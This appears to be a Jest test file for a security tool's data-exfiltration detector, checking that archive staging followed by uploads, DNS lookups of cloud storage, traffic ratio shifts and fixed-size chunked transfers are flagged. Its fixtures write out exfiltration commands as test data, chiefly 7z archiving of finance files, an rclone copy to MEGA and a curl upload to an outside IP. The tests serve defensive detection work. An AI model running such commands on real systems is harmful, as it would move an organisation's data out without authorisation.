import { parseDetectionConfig } from '../config';
import type { Finding } from '../types';
import { ExfiltrationDetector, fixedSizeChunks, producerConsumerRatio } from './exfiltration';
import { at, dnsQuery, makeEvent, processStart } from './test_events';

const T0 = '2024-03-01T10:00:00.000Z';
const cfg = parseDetectionConfig().exfiltration;

const archive = (time: string, host = 'ws5', user = 'alice') =>
  processStart(
    time,
    host,
    'C:\\Program Files\\7-Zip\\7z.exe',
    '7z.exe a -pSecret C:\\Users\\Public\\out.7z C:\\Finance\\*',
    user,
  );
const rclone = (time: string, host = 'ws5', user = 'alice') =>
  processStart(
    time,
    host,
    'C:\\Users\\Public\\rclone.exe',
    'rclone.exe copy C:\\Users\\Public\\out.7z mega:backup',
    user,
  );

describe('ExfiltrationDetector', () => {
  it('reports staging followed by an upload from the same host', () => {
    const d = new ExfiltrationDetector(cfg);
    expect(d.observe(archive(T0))).toEqual([]);
    const found = d.observe(rclone(at(T0, 600)));
    expect(found).toHaveLength(1);
    expect(found[0].techniqueIds).toEqual(['T1560.001', 'T1567.002']);
    expect(found[0].host).toBe('ws5');
    expect(found[0].explanation).toContain('rclone');
    expect(found[0].evidence).toHaveLength(2);
  });

  it('links staging and upload done by the same user on different hosts', () => {
    const d = new ExfiltrationDetector(cfg);
    d.observe(archive(T0, 'fileserver', 'mallory'));
    const found = d.observe(
      processStart(
        at(T0, 60),
        'ws7',
        'C:\\Windows\\System32\\curl.exe',
        'curl.exe -T out.7z https://203.0.113.9/up',
        'mallory',
      ),
    );
    expect(found.map((f) => f.techniqueIds)).toEqual([['T1048', 'T1560.001']]);
    expect(found[0].user).toBe('mallory');
  });

  it('needs the staging first and within the window', () => {
    const d = new ExfiltrationDetector(cfg);
    expect(d.observe(rclone(T0))).toEqual([]);
    expect(d.observe(archive(at(T0, 10)))).toEqual([]);
    expect(d.observe(rclone(at(T0, 10 + cfg.windowMinutes * 60 + 60)))).toEqual([]);
  });

  it('counts a DNS lookup of a cloud-storage service after staging as the transfer', () => {
    const d = new ExfiltrationDetector(cfg);
    d.observe(archive(T0));
    const found = d.observe(dnsQuery(at(T0, 30), 'g.api.mega.co.nz.', 'ws5'));
    expect(found).toHaveLength(1);
    expect(found[0].explanation).toContain('mega.co.nz');
  });

  it('does not count allow-listed backup destinations or processes', () => {
    const d = new ExfiltrationDetector({
      ...cfg,
      allowProcesses: ['backupagent.exe'],
      allowDomains: ['backup.corp.example'],
    });
    d.observe(
      processStart(T0, 'ws5', 'C:\\Program Files\\Backup\\backupagent.exe', 'backupagent.exe a nightly.zip'),
    );
    d.observe(archive(at(T0, 1)));
    const found = d.observe(
      processStart(
        at(T0, 60),
        'ws5',
        'C:\\Windows\\System32\\curl.exe',
        'curl.exe -T out.7z https://backup.corp.example/up',
      ),
    );
    expect(found).toEqual([]);
  });

  it('reports a producer/consumer ratio shift when flows carry bytes', () => {
    const d = new ExfiltrationDetector({
      ...cfg,
      windowMinutes: 10,
      pcrMinBytes: 1000,
      largeTransferBytes: 1e12,
    });
    const flow = (i: number, sent: number, recv: number) =>
      makeEvent({
        time: at(T0, i * 60),
        host: 'ws5',
        channel: 'Microsoft-Windows-Sysmon/Operational',
        eventId: 3,
        extra: {
          source: { ip: '10.0.0.5', bytes: sent },
          destination: { ip: '198.51.100.7', bytes: recv, port: 443 },
        },
      });
    const found = [];
    // An hour of browsing (pulling data), then a push.
    for (let i = 0; i < 60; i++) found.push(...d.observe(flow(i, 1000, 9000)));
    expect(found).toEqual([]);
    for (let i = 60; i < 66; i++) found.push(...d.observe(flow(i, 900000, 1000)));
    expect(found.map((f) => f.ruleId)).toEqual(['apt.behaviour.exfil_pcr_shift']);
    expect(found[0].techniqueIds).toEqual(['T1041']);
  });

  it('computes the producer/consumer ratio', () => {
    expect(producerConsumerRatio(100, 0)).toBe(1);
    expect(producerConsumerRatio(0, 100)).toBe(-1);
    expect(producerConsumerRatio(0, 0)).toBe(0);
  });

  describe('fixed-size chunks (T1030)', () => {
    const MB = 1048576;
    const upload = (i: number, sent: number, dst = '198.51.100.7') =>
      makeEvent({
        time: at(T0, 60 + i * 120),
        host: 'ws5',
        channel: 'Microsoft-Windows-Sysmon/Operational',
        eventId: 3,
        extra: {
          source: { ip: '10.0.0.5', bytes: sent },
          destination: { ip: dst, bytes: 2000, port: 443 },
        },
      });

    it('finds the longest run of near-equal large flows to one destination', () => {
      const equal: Array<[number, number, string]> = [15, 15, 15.2, 14.9, 15, 15.1].map((m, i) => [
        i,
        m * MB,
        'x',
      ]);
      expect(fixedSizeChunks(equal)).toEqual({ destination: 'x', count: 6, bytes: 15 * MB });
      const varied: Array<[number, number, string]> = [5, 30, 12, 60, 25, 8].map((m, i) => [i, m * MB, 'x']);
      expect(fixedSizeChunks(varied)).toBeUndefined();
      // Equal sizes spread over destinations, or below the size floor, are not a run.
      const spread: Array<[number, number, string]> = [15, 15, 15, 15, 15, 15].map((m, i) => [
        i,
        m * MB,
        `d${i % 2}`,
      ]);
      expect(fixedSizeChunks(spread)).toBeUndefined();
      const small: Array<[number, number, string]> = Array.from({ length: 10 }, (_, i) => [i, 900, 'x']);
      expect(fixedSizeChunks(small)).toBeUndefined();
    });

    it('adds T1030 when the staged data leaves in fixed-size chunks', () => {
      const d = new ExfiltrationDetector(cfg);
      d.observe(archive(T0));
      const found: Finding[] = [];
      for (let i = 0; i < 10; i++) found.push(...d.observe(upload(i, 15 * MB)));
      expect(found).toHaveLength(1);
      expect(found[0].techniqueIds).toEqual(['T1030', 'T1041', 'T1560.001']);
      expect(found[0].explanation).toMatch(/in 7 chunks of about 15 MB to 198\.51\.100\.7/);
    });

    it('does not add T1030 when upload sizes vary', () => {
      const d = new ExfiltrationDetector(cfg);
      d.observe(archive(T0));
      const found: Finding[] = [];
      const sizes = [5, 30, 12, 60, 25, 8, 40];
      sizes.forEach((m, i) => found.push(...d.observe(upload(i, m * MB))));
      expect(found).toHaveLength(1);
      expect(found[0].techniqueIds).toEqual(['T1041', 'T1560.001']);
    });

    it('keeps chunk state across snapshot and restore', () => {
      const d = new ExfiltrationDetector(cfg);
      d.observe(archive(T0));
      for (let i = 0; i < 4; i++) d.observe(upload(i, 15 * MB));
      const restored = new ExfiltrationDetector(cfg);
      restored.restore(JSON.parse(JSON.stringify(d.snapshot())));
      const found: Finding[] = [];
      for (let i = 4; i < 10; i++) found.push(...restored.observe(upload(i, 15 * MB)));
      expect(found[0].techniqueIds).toContain('T1030');
    });
  });
});
